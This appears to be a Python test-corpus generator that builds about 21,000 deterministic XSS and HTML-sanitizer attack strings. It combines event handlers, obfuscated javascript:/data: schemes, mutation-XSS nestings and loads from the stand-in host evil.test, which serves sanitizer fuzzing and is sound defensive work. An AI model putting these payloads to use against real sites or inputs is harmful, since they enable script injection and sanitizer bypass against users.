"""Attack strings of our own, made from parts, always the same ones: what is put together here is larger than any list.

Pictures that a reader may see are on img.test; whatever else wants to be fetched is on evil.test, which nobody may ask.
"""
import itertools
import random

JS = 'alert(1)'
EVIL = 'http://evil.test/'

EVENTS = '''abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforeprint
beforetoggle beforeunload begin blur canplay change click close contentvisibilityautostatechange contextmenu copy cut dblclick
drag dragend dragstart drop end error finish focus focusin formdata hashchange input invalid keydown load loadend
loadstart message mousedown mouseenter mouseover mousewheel pagereveal pageshow paste play pointerenter popstate
progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange
show start submit suspend timeupdate toggle touchstart transitionend unload volumechange wheel'''.split()

ELEMENTS = '''a abbr address article audio b base bdo blockquote body br button canvas caption col dd details dialog div
dl dt em embed fieldset figure font form frame frameset h1 head hr html i iframe image img input ins keygen label li
link main map marquee math menu meta meter object ol option p param picture plaintext pre q ruby script section select
source span style summary svg table tbody td template textarea th title tr track u ul var video wbr x-y xmp'''.split()

QUOTED = ['"%s"', "'%s'", '%s', '`%s`', '"%s', "'%s", '%s/', ' "%s"']
GAPS = [' ', '/', '\t', '\n', '\f', '\r', '/ /', ' x=y ', ' x="y"', "'x'", '"x"/', '\x00 ', '/\x0b', ' id=x name=y ']

SCHEMES = [
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\x01javascript:alert(1)',
    'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', 'javascript\t:alert(1)',
    'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)',
    'javascript&#58alert(1)', 'javascript&#x3a;alert(1)', 'javascript&#x3Aalert(1)', 'javascript&#0000058alert(1)',
    '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#x6Aavascript:alert(1)', '&#0000106avascript:alert(1)',
    '&#1;javascript:alert(1)', '&#14; javascript:alert(1)', '&Tab;javascript:alert(1)', '&nbsp;javascript:alert(1)',
    'java&#x09;script:alert(1)', 'java&#10script:alert(1)', 'java&#0;script:alert(1)', 'java\x00script:alert(1)',
    'java%0ascript:alert(1)', 'javascript://img.test/%0aalert(1)', 'javascript:/*-/*`/*\\`/*\'/*"/**/(alert(1))//',
    'javascript&lpar;alert(1)', 'javas&shy;cript:alert(1)', 'javas&ZeroWidthSpace;cript:alert(1)',
    '\u2028javascript:alert(1)', '\u3000javascript:alert(1)', '\ufeffjavascript:alert(1)', 'ｊavascript:alert(1)',
    'vbscript:msgbox(1)', 'VbScRiPt:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'jar:http://evil.test/a!/b',
    'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<script>alert(1)</script>', 'd&#97;ta:text/html,<svg onload=alert(1)>', 'data&colon;text/html,x',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'data:,x', 'blob:http://evil.test/x',
    'filesystem:http://evil.test/x', 'file:///etc/passwd', 'ftp://evil.test/x', 'view-source:http://evil.test/',
    'about:blank', 'feed:javascript:alert(1)', 'http:javascript:alert(1)', 'x:javascript:alert(1)', 'ws://evil.test/',
    'javascript&amp;#58;alert(1)', '&#xfeff;javascript:alert(1)', 'jav&#x0A;ascript:alert(1)', 'jav	ascript:alert(1)',
    "javascript:'", 'javascript:', ':javascript:alert(1)', '//javascript:alert(1)', '/\\evil.test', '\\\\evil.test/x',
    'https://user:pass@evil.test:99999/', 'http://[::1', 'http://%00/', 'mailto:', 'tel:', 'intent://x#Intent;end',
]

ADDRESSES = [
    '<a href=%s>x</a>', '<a HREF = %s >x</a>', '<area href=%s>', '<map><area shape=default href=%s></map>',
    '<iframe src=%s></iframe>', '<iframe srcdoc=%s></iframe>', '<frame src=%s>', '<frameset><frame src=%s></frameset>',
    '<embed src=%s>', '<object data=%s></object>', '<object><param name=src value=%s></object>',
    '<applet code=%s></applet>', '<form action=%s><input type=submit></form>', '<button formaction=%s>x</button>',
    '<input type=image formaction=%s>', '<isindex action=%s>', '<base href=%s><a href=x>y</a>', '<link rel=stylesheet href=%s>',
    '<link rel=prefetch href=%s>', '<link rel=import href=%s>', '<meta http-equiv=refresh content=0;url=%s>',
    '<script src=%s></script>', '<svg><a xlink:href=%s><text>x</text></a></svg>', '<svg><use href=%s></svg>',
    '<svg><image href=%s></svg>', '<svg><script href=%s></svg>', '<svg><animate attributeName=href values=%s></svg>',
    '<math href=%s>x</math>', '<math><maction xlink:href=%s>x</maction></math>', '<x xlink:href=%s>y</x>',
    '<img dynsrc=%s>', '<img lowsrc=%s>', '<img longdesc=%s src=http://img.test/i>', '<body background=%s>',
    '<table background=%s><td>x</table>', '<td background=%s>', '<blockquote cite=%s>x</blockquote>', '<q cite=%s>x</q>',
    '<del cite=%s>x</del>', '<video poster=%s></video>', '<a href=http://img.test/ ping=%s>x</a>', '<html manifest=%s>',
    '<portal src=%s></portal>', '<bgsound src=%s>', '<sound src=%s>', '<layer src=%s></layer>', '<xml src=%s></xml>',
    '<div style=background:url(%s)>x</div>', '<style>@import %s;</style>', '<a href=x target=%s>y</a>',
    '<head profile=%s>', '<input src=%s>', '<command icon=%s>', '<fencedframe src=%s></fencedframe>',
    '<video><source src=%s></video>', '<audio src=%s autoplay></audio>', '<track src=%s default>',
]

PICTURES = [
    '<img src=%s>', '<img srcset=%s>', '<img data-src=%s>', '<img data-srcset=%s src=http://img.test/1>',
    '<picture><source srcset=%s><img></picture>', '<image src=%s>', '<image xlink:href=%s>',
    '<img src=http://img.test/1 srcset="http://img.test/2 2x, ">%s', '<input type=image src=%s>',
]

OPEN = '''math mtext mi mglyph annotation-xml svg foreignObject desc title style script noscript textarea xmp iframe
noembed noframes template select option optgroup form p a b i li dd dt td tr tbody table caption colgroup col h1 h2 div
button object marquee applet ruby rt rp nobr font pre listing plaintext frameset body html head math:x svg:script
details summary dialog main address ul ol dl br hr img input keygen image center u s code'''.split()

TRICKS = [
    '<!--', '-->', '--!>', '<!-->', '<!--->', '<!', '<?', '<?xml ', '?>', '<![CDATA[', ']]>', '<!DOCTYPE html>', '</',
    '<', '>', '"', "'", '`', '&lt;', '&gt;', '&quot;', '&#60;', '&#x3c', '&lt', '\x00', '\r', '\n', '\t', '=', '/',
    '<%', '%>', '<//', '</ p>', '<p/>', '</br>', '</p>', '&NotEqualTilde;', '&amp;lt;', '\ufffd', '\u2028', '&',
    'encoding="text/html"', '<a title="', '<b id="', '<img alt="', '<textarea><', '</textarea>', '</title>', '</style>',
    '</script>', '</noscript>', '</xmp>', '</iframe>', '</template>', '</select>', '</svg>', '</math>', '</table>',
]

PAYLOADS = [
    '<img src=http://img.test/p onerror=alert(1)>', '<svg onload=alert(1)>', '<script>alert(1)</script>',
    '<a href=javascript:alert(1)>x</a>', '<style>@import "http://evil.test/s";</style>', '<iframe src=http://evil.test/f>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<link rel=stylesheet href=http://evil.test/l>',
    '<b style="background:url(http://evil.test/b)">x</b>', '<object data=http://evil.test/o></object>', '<base href=http://evil.test/>',
    '<video src=http://evil.test/v autoplay onerror=alert(1)></video>', '<input autofocus onfocus=alert(1)>', '<embed src=http://evil.test/e>',
    '<details open ontoggle=alert(1)>x</details>', '<meta http-equiv=refresh content="0;url=http://evil.test/m">',
    '<x onclick=alert(1) tabindex=1 style=display:block>x</x>', '<form action=http://evil.test/><button>x</button></form>',
    '<script src=http://evil.test/s></script>', '<audio src onerror=alert(1)>',
]

WHOLE = [
    '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script\x00>alert(1)</script>',
    '<sc\x00ript>alert(1)</script>', '<script/xss src=http://evil.test/x></script>', '<script>alert(1)', '<script',
    '"><script>alert(1)</script>', "';alert(1)//", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '\\";alert(1);//',
    '<svg><style><img src=http://evil.test/x onerror=alert(1)></style></svg>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=http://img.test/x onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=http://img.test/1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=http://img.test/x onerror=alert(1)>">', '<svg><![CDATA[><script>alert(1)</script>]]></svg>',
    '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>', '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><a href="</title><img src=http://img.test/x onerror=alert(1)>">', '<!--><script>alert(1)</script>-->',
    '<textarea><script>alert(1)</script></textarea><script>alert(1)</script>', '<table><tr><td><script>alert(1)</script>',
    '<template><script>alert(1)</script></template>', '<p><template><svg onload=alert(1)></template>', '<select><style></select><script>alert(1)</script>',
    '<a/href=javascript:alert(1)>x', '<div style="width:expression(alert(1))">', '<xss style="behavior:url(http://evil.test/x)">',
    '<style>li{list-style-image:url(http://evil.test/l)}</style><ul><li>x', '<a href="java\nscript:alert(1)">x</a>',
    '\xbc\x73\x63\x72\x69\x70\x74\xbe', '\xc0\xbcscript>alert(1)</script>', '<\x00script>alert(1)</script>', '<script >alert(1)</script >',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=alert(1)>',
    '<a href="http://img.test/" onclick="alert(1)" id=getElementById name=cookie>x</a>', '<form id=x></form><button form=x formaction=javascript:alert(1)>',
    '<input name=attributes><form><input name=parentNode></form>', '<img name=body src=http://img.test/n>', '<embed/src=//evil.test/x>',
    '<iframe/src="data:text/html,<script>alert(1)</script>">', '<frameset onload=alert(1)>', '<body onload=alert(1)>', '<html onfocus=alert(1)>',
    "<iframe src=https://www.youtube.com/embed/a%20don't></iframe>", '<plaintext><script>alert(1)</script>', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
    '<img src=http://img.test/1 usemap=#m><map name=m><area href=javascript:alert(1)></map>', '<p>' * 600 + '<script>alert(1)</script>',
    '<b>' * 700 + '<img src=http://img.test/1 onerror=alert(1)>', '<table><td>' * 200 + '<svg onload=alert(1)>', '<a><b>' * 300 + '</a></b>' * 300,
]


def handlers():
    for n, (event, element) in enumerate(itertools.product(EVENTS, ELEMENTS)):
        if n % 2:
            continue
        quoted = QUOTED[n % len(QUOTED)] % JS
        yield f'<{element}{GAPS[n % len(GAPS)]}on{event}{" " * (n % 3 == 0)}={quoted}>x</{element}>'


def addresses():
    n = 0
    for scheme, where in itertools.product(SCHEMES + [EVIL, '//evil.test/x'], ADDRESSES):
        n += 1
        yield where % ([f'"{scheme}"', f"'{scheme}'", scheme][n % 3])
    for scheme, where in itertools.product(SCHEMES, PICTURES):
        yield where % f'"{scheme}"'


def nested(rng):
    parts = [f'<{rng.choice(OPEN)}>' if rng.random() < 0.6 else rng.choice(TRICKS) for _ in range(rng.randint(2, 7))]
    if rng.random() < 0.5:
        parts.insert(rng.randrange(len(parts)), f'</{rng.choice(OPEN)}>')
    parts.insert(rng.randrange(len(parts) + 1), rng.choice(PAYLOADS))
    if rng.random() < 0.4:
        parts.append(rng.choice(PAYLOADS))
    return ''.join(parts)


KEPT = '''p div b i em a h1 h2 li ul ol dl dt dd table tr td th tbody thead caption colgroup blockquote pre span q details summary
ruby rt rp sub code section figure ins'''.split()
VALUES = ['', '', '', ' title="%s"', ' lang=en dir=ltr', ' href=http://img.test/l', ' title=\'%s\'']
# What readers of text treat in ways of their own: line ends, controls, what XML forbids.
ODD_TEXTS = ['\n', '\n\n', '\r', '\r\n', '&#10;', '&#13;', '&#13;&#10;', '&NewLine;', '\x0c', '&#12;', '\x01', '&#1;', '&#0;', '&#128;', '&#x85;',
             '\x85', '\u2028', '\ufffe', '\ufdd0', '\U0001ffff', '&#xfdd0;', '\x7f', ' ', '\t', 'x', '&quot;', '&lt;', '<', '\u00a0']


def kept(rng):
    """Elements that are kept, with odd texts at their beginnings, around what is not kept."""
    parts = []
    for _ in range(rng.randint(2, 9)):
        kind = rng.random()
        if kind < 0.35:
            value = rng.choice(VALUES)
            parts.append(f'<{rng.choice(KEPT)}{value % rng.choice(ODD_TEXTS) if "%" in value else value}>')
        elif kind < 0.5:
            parts.append(f'</{rng.choice(KEPT)}>')
        elif kind < 0.7:
            parts.append(rng.choice(ODD_TEXTS))
        else:
            parts.append(f'<{rng.choice(["", "/"])}{rng.choice(OPEN)}>' if kind < 0.9 else rng.choice(PAYLOADS))
    return ''.join(parts)


def mutated(rng, pool):
    s = list(rng.choice(pool))
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(s) + 1)
        what = rng.random()
        if what < 0.4:
            s.insert(at, rng.choice(TRICKS))
        elif what < 0.6:
            del s[at:at + rng.randint(1, 3)]
        elif what < 0.8:
            s.insert(at, rng.choice(['\x00', '\r', '\t', ' ', '/', '"', "'", '>', '<', '&', ';', '\x0c', '\x1b', '\u2029']))
        else:
            other = rng.choice(pool)
            s.insert(at, other[rng.randrange(len(other)):][:60])
    return ''.join(s)


def all_attacks(total=21000, seed=20):
    rng = random.Random(seed)
    out = WHOLE + list(handlers()) + list(addresses())
    out += [nested(rng) if n % 3 else kept(rng) for n in range((total - len(out)) // 2)]
    pool = [s for s in out if len(s) < 400]
    out += [mutated(rng, pool) for _ in range(total - len(out))]
    return out
